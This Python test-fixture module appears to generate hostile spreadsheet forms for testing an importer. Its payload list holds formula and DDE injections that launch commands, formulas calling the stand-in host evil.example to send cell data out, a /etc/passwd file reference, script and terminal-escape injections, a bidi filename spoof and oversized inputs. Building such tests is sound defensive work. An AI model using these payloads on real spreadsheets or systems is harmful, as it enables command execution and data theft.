"""Good forms in which every free text is an attack on whatever it is written into."""

from __future__ import annotations

from random import Random
from typing import Final

from .maker import Hostile, counted
from .packages import form

# What a spreadsheet, a browser, a terminal or a template would take for an order.
LIVE: Final = (
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example","Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '=DDE("cmd";"/C calc";"1")',
    '=IMPORTXML(CONCAT("http://evil.example",A1),"//a")',
    "{=1+1}",
    '=WEBSERVICE("http://evil.example")',
    "http://evil.example",
    "mailto:evil@example.com",
    "file:///etc/passwd",
    "\\\\evil\\share",
    "internal:Sheet1!A1",
    "external:c:\\x.xlsx",
    "<script>alert(1)</script>",
    "]]><x/>",
    "&lt;b&gt; &amp; &#61;1",
    "_x003D_1+1 _x000D_ _x0000_",
    "\x1b]0;title\x07\x1b[2J",
    "a\x00b\x01c\x0bd\x7fe\x9ff\ufffeg",
    "gnp\u202exslx.exe \u2066x\u2069",
    "{value} {0} %s %(x)s ${x} {{x}}",
    "'=1+1",
    '"=1+1',
    ",=1+1;=1+1|=1+1",
    "＝1+1",
    "=1+1\n\n",
)
_FREE: Final = ("assessment", "proposals")


def _words(length: int) -> str:
    """Return text that does not pack so well as to be taken for a bomb."""
    chance = Random(1)
    return " ".join(f"{chance.getrandbits(64):x}" for _ in range(length // 17))


def _said(text: str) -> Hostile:
    number = LIVE.index(text)
    plain = "".join(ch for ch in text if ch >= " " or ch in "\t\n\r").replace("\ufffe", "")  # what XML can hold
    return counted(
        f"texts/live-{number:02}.xlsx",
        lambda code: form(code, **dict.fromkeys(_FREE, f"{plain}")),
        f"H-T{number:02}",
        members=20,
    )


def _everywhere(text: str) -> bytes:
    """The same text in the fields that say whose the form is, and as the sheet's name."""
    return form(text, sheet_name=text[:31], unit_name=text, round=text, members=text, attendees=text)


_UNKNOWN: Final = frozenset({"unidentified", "rejected"})
# A cell of a million characters is none that Excel wrote: it is read and cut.
_TOO_LONG: Final = frozenset({"unit_unknown", "round_unknown", "text_too_long", "text_cut"})

HOSTILE: Final = (
    *map(_said, LIVE),
    *(
        Hostile(
            f"texts/everywhere-{n:02}.xlsx",
            lambda text=text: _everywhere(text),
            frozenset({"unit_unknown", "count_unclear"}),
            _UNKNOWN,
        )
        for n, text in enumerate(text for text in LIVE if text.strip() and "\x00" not in text and "\x1b" not in text)
    ),
    counted(
        "texts/long.xlsx", lambda code: form(code, assessment="Dài. " * 9000), "H-LONG", "text_too_long", members=20
    ),
    counted(
        "texts/long-emoji.xlsx",
        lambda code: form(code, assessment="😀" * 32_000),
        "H-EMOJI",
        "text_too_long",
        members=20,
    ),
    counted("texts/marks.xlsx", lambda code: form(code, assessment="\u0300\u0323" * 8000), "H-MARKS", members=20),
    Hostile("texts/text-million.xlsx", lambda: form("H-NONE", proposals=_words(2_000_000)), _TOO_LONG, _UNKNOWN),
    counted(
        "texts/sheet-name.xlsx",
        lambda code: form(code, sheet_name="O'Brien <b>&\"[]:*?/\\ =1+1"),
        "H-QUOTE",
        members=20,
    ),
    counted(
        "texts/sheet-name-million.xlsx", lambda code: form(code, sheet_name=_words(1_000_000)), "H-WIDE", members=20
    ),
    Hostile(
        "texts/code-million.xlsx", lambda: form(_words(1_000_000), unit_name=_words(1_100_000)), _TOO_LONG, _UNKNOWN
    ),
    Hostile("texts/round-million.xlsx", lambda: form("H-ROUND", round=_words(1_000_000)), _TOO_LONG, _UNKNOWN),
)
